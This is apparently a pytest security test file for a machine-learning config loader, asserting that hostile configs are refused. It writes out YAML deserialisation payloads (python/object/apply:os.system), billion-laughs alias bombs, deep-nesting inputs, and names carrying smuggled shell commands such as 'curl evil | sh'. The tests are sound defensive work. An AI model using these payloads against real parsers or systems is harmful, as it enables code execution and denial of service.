"""A config from a stranger: it runs no code, fills no memory, and what is wrong with it is said in one line."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

import contrapose as cp
from contrapose.cli import main
from contrapose.config import Config
from contrapose.config.yaml import DEEPEST, MOST, parse
from contrapose.data.shards import expand
from contrapose.engine.components import make_modality
from contrapose.plugins import configure
from contrapose.relations.predicate import parse as parse_predicate

LAUGHS = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]\n" for i in range(1, 10)
)
SQUARE = "long: &a [" + ", ".join(["x"] * 1000) + "]\nrows: [" + ", ".join(["*a"] * 1000) + "]\n"

HOSTILE = {
    "code": ("a: !!python/object/apply:os.system ['touch pwned']", "tag:yaml.org,2002:python/object/apply:os.system is not"),
    "a name": ("a: !!python/name:os.system", "the tag tag:yaml.org,2002:python/name:os.system is not allowed"),
    "a module": ("!!python/module:antigravity", "python/module:antigravity is not allowed"),
    "a tag's alias": ("%TAG ! tag:yaml.org,2002:python/\n---\na: !object/new:os.system [x]", "is not allowed"),
    "a tag on a number": ("a: !!python/int '1'", "is not allowed"),
    "binary": ("a: !!binary aGk=", "binary is not allowed"),
    "a set": ("a: !!set {a, b}", "set is not allowed"),
    "billion laughs": (LAUGHS, f"more than {MOST:,} values with all aliases spelt out"),
    "a square of aliases": (SQUARE, f"more than {MOST:,} values"),
    "an alias in itself": ("a: &a [*a]", "an alias can't contain itself"),
    "a merge loop": ("a: &a {<<: *a}", "an alias can't contain itself"),
    "deep lists": ("a: " + "[" * 5000 + "]" * 5000, f"more than {DEEPEST} levels deep"),
    "deep, and never closed": ("a: " + "{a: " * 3000, f"more than {DEEPEST} levels deep"),
    "deep mappings": ("\n".join(" " * i + "a:" for i in range(150)), f"more than {DEEPEST} levels deep"),
    "a huge number": ("a: " + "9" * 5000, "a number of 5,000 characters"),
    "a huge hexadecimal": ("a: 0x" + "f" * 100_000, "a number of 100,002 characters"),
    "two documents": ("a: 1\n---\na: 2", "found another document"),
    "a key that is a list": ("? [a]\n: 1", "a key must be a plain word"),
    "a null byte": ("a: \0", "special characters are not allowed"),
}  # fmt: skip


@pytest.mark.timeout(60)
@pytest.mark.parametrize(("text", "why"), HOSTILE.values(), ids=HOSTILE)
def test_hostile_yaml_is_one_line(tmp_path: Path, capsys, monkeypatch, text: str, why: str) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "my.yaml").write_text(text)
    assert main(["train", "my.yaml"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: my.yaml")
    assert why in err
    assert err.count("\n") == 1
    assert not (tmp_path / "pwned").exists()


def test_a_merge_key_is_a_key_like_any_other() -> None:
    assert parse("a: &a {x: 1}\nb: {<<: *a}", "x").data["b"] == {"<<": {"x": 1}}


def test_what_a_config_says_never_steers_the_terminal(tmp_path: Path, capsys) -> None:
    (tmp_path / "my.yaml").write_text('"\\e[31mdata\\a": x\n')
    assert main(["train", str(tmp_path / "my.yaml")]) == 1
    err = capsys.readouterr().err
    assert "\x1b" not in err
    assert "\a" not in err
    assert r"\x1b[31mdata\x07" in err


CODE = "import pathlib\npathlib.Path('pwned').touch()\ndef run(*args, **kwargs): pathlib.Path('pwned').touch()\n"


@pytest.mark.parametrize(
    "config",
    [
        "data: {use: 'safetyfake_code:run'}\nmodalities: {m: m}",
        "data: x.jsonl\nmodalities: {m: {use: 'safetyfake_code:run', columns: m}}",
        "data: x.jsonl\nmodalities: {m: m}\nviews: {m: 'safetyfake_code:run'}\nencoders: {m: x}\nmethod: simclr",
        "data: x.jsonl\nmodalities: {m: m}\nencoders: {m: 'safetyfake_code:run'}\nmethod: 'safetyfake_code:run'",
        "recipe: 'safetyfake_code:run'\ndata: x.jsonl",
        "recipe: safetyfake_code.py\ndata: x.jsonl",
        "plugin: [safetyfake_code.py]\ndata: x.jsonl",
        "plugins: [safetyfake_code.py]\ndata: x.jsonl",
        "allow_import: true\nencoders: {m: 'safetyfake_code:run'}\ndata: x.jsonl",
        "data: x.jsonl\ntrain: {optimizer: 'safetyfake_code:run'}",
        "data: x.jsonl\nmodalities: {m: m}\nencoders: {m: m}\nmethod: {terms: {t: {query: m, loss: 'safetyfake_code:run'}}}",
    ],
)
def test_a_config_names_no_code(tmp_path: Path, capsys, monkeypatch, config: str) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(str(tmp_path))
    (tmp_path / "safetyfake_code.py").write_text(CODE)
    (tmp_path / "x.jsonl").write_text('{"m": 1}\n')
    (tmp_path / "my.yaml").write_text(config)
    try:
        assert main(["train", "my.yaml"]) == 1
    finally:
        configure()
    err = capsys.readouterr().err
    assert err.startswith("error: ")
    assert err.count("\n") == 1
    assert "safetyfake_code" not in sys.modules
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize("name", ["a; curl evil | sh #", "evil", "$(touch pwned)"])
def test_a_name_that_nobody_offers_becomes_no_command(name: str) -> None:
    with pytest.raises(cp.ConfigError) as unknown:
        cp.build("encoder", {"use": f"{name}/net"})
    with pytest.raises(cp.ConfigError) as missing:
        make_modality(name, None, ("modalities",))
    for error in (unknown, missing):
        (command,) = str(error.value).split("pip install ")[1:]
        assert command == "contrapose-<modality>"


def test_module_attr_is_refused_with_the_option_that_allows_it(monkeypatch) -> None:
    with pytest.raises(cp.ConfigError, match="'os:system' names code, which a config may run only with --allow-import"):
        cp.build("encoder", {"use": "os:system", "command": "true"})


@pytest.mark.parametrize(
    "text", ["(" * 5000, "not " * 5000 + "self", "(" * 400 + "self" + ")" * 400, " or ".join(["self"] * 3000)]
)
def test_a_predicate_that_nests_without_end(text: str) -> None:
    with pytest.raises(cp.ConfigError, match=r"more than 500: "):
        parse_predicate(text)


@pytest.mark.parametrize("said", ["{0..999999999}.tar", "{1,2}" * 16 + "{0..99999}.tar", "{a}" * 2000])
def test_a_form_that_stands_for_too_many_shards(said: str) -> None:
    with pytest.raises(cp.DataError, match="more than"):
        expand(said)


def test_an_override_is_held_to_the_same() -> None:
    with pytest.raises(cp.ConfigError, match="is not allowed"):
        Config.of({}, ["train.lr=!!python/name:os.system"])


def test_the_page_gives_the_limits_that_hold() -> None:
    """docs/safety.md speaks in numbers; they are the code's."""
    from contrapose.config.yaml import LONGEST
    from contrapose.data.cells import FOLLOW
    from contrapose.relations.predicate import MOST_WORDS

    page = (Path(__file__).resolve().parents[2] / "docs" / "safety.md").read_text(encoding="utf-8")
    for said in (
        f"{MOST:,} values",
        f"{DEEPEST} levels",
        f"{LONGEST} characters",
        f"{MOST_WORDS} words",
        f"`{FOLLOW}=1`",
    ):
        assert said in page, said
